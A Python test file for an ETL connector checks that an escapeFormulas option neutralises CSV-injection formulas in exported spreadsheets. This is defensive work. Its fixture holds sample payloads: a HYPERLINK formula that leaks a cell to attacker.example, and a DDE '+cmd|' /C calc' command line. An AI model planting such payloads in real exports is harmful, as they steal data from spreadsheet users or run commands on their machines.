"""Pull to CSV and spreadsheet formulas (CSV injection): values are written exactly by default, since an
ETL's ``-5`` or ``=`` must come back as it went in; ``parameters.escapeFormulas: true`` writes a ``'`` before
each cell and column name a spreadsheet would run as a formula (OWASP's ``=``, ``+``, ``-``, ``@``, tab and
carriage return), on every page of the export, both databases. JSON and Parquet exports refuse it.
"""

from __future__ import annotations

import csv
import gzip
import io

import pytest

from connector_ops import ConnectorError, invoke
from tests.test_etl_push_pull import pull_bytes, push, rows

#: a stranger's CSV (a Drive inbox): formulas Excel would run, and values an ETL must keep as they are
HOSTILE = ('name,note\r\nalice,"=HYPERLINK(""https://attacker.example/?""&A1,""click"")"\r\n'
           "bob,+cmd|' /C calc'!A0\r\ncarol,@SUM(1+1)\r\ndave,-2+3\r\n")

VALUES = ["=1+1", "+1", "-5", "@A1", "\tx", "\rx", "a=b", "'=x", "", " =x", "plain"]
ESCAPED = ["'=1+1", "'+1", "'-5", "'@A1", "'\tx", "'\rx", "a=b", "'=x", "", " =x", "plain"]


def table(data: bytes, encoding: str = "utf-8", delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


def test_formula_cells_are_written_exactly_by_default(files, env):
    """As the README's Excel advice (``utf-8-sig``) gives them: the bytes pushed, and pushed back the same rows."""
    vf = push(files, HOSTILE.encode())
    data = pull_bytes(files, vf, encoding="utf-8-sig")
    assert data.decode("utf-8-sig") == HOSTILE
    assert rows(push(files, data)) == rows(vf)
    assert pull_bytes(files, vf, encoding="utf-8-sig", escapeFormulas=False) == data


def test_escape_formulas_writes_a_quote_before_each_cell_that_starts_a_formula(files, env):
    vf = push(files, HOSTILE.encode())
    assert table(pull_bytes(files, vf, encoding="utf-8-sig", escapeFormulas=True), "utf-8-sig") == [
        ["name", "note"],
        ["alice", '\'=HYPERLINK("https://attacker.example/?"&A1,"click")'],
        ["bob", "'+cmd|' /C calc'!A0"],
        ["carol", "'@SUM(1+1)"],
        ["dave", "'-2+3"],
    ]


@pytest.mark.parametrize("header", [True, False])
def test_every_page_and_column_name_is_escaped_and_a_missing_value_stays_empty(files, env, header):
    """25,000 rows: three pages of the scan; the column names, which the file's header row gave, too."""
    sink = io.StringIO()
    writer = csv.writer(sink, lineterminator="\r\n")
    writer.writerow(["=id", "value", "-x"])
    for i in range(25_000):
        writer.writerow([str(i), VALUES[i % len(VALUES)], "" if i % 2 else "-"])
    vf = push(files, sink.getvalue().encode())
    invoke("etl.append_rows", {"rows": [{"virtualFileId": vf, "content": {"=id": "=last", "value": None}}]})
    got = table(gzip.decompress(files.read_bytes(invoke("etl.pull", {
        "virtualFileId": vf, "exportType": "csv", "exportName": "out.csv.gz",
        "parameters": {"escapeFormulas": True, "csvDelimiter": ";", "addFirstRowAsSchema": header}})["platformFile"])),
        delimiter=";")
    if header:
        assert got.pop(0) == ["'=id", "value", "'-x"]
    assert len(got) == 25_001
    assert got[:-1] == [[f"{i}", ESCAPED[i % len(ESCAPED)], "" if i % 2 else "'-"] for i in range(25_000)]
    assert got[-1] == ["'=last", "", ""]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_a_json_export_refuses_escape_formulas_but_takes_the_default_spelled_out(files, env):
    vf = push(files, HOSTILE.encode())
    with pytest.raises(ConnectorError) as info:
        pull_bytes(files, vf, "json", escapeFormulas=True)
    assert info.value.summary() == ("etl.pull failed (400): parameters.escapeFormulas: does not apply to a JSON "
                                    "export (only CSV has a delimiter, a header row and a spreadsheet's cells)")
    assert b'"=HYPERLINK' in pull_bytes(files, vf, "json", escapeFormulas=False)
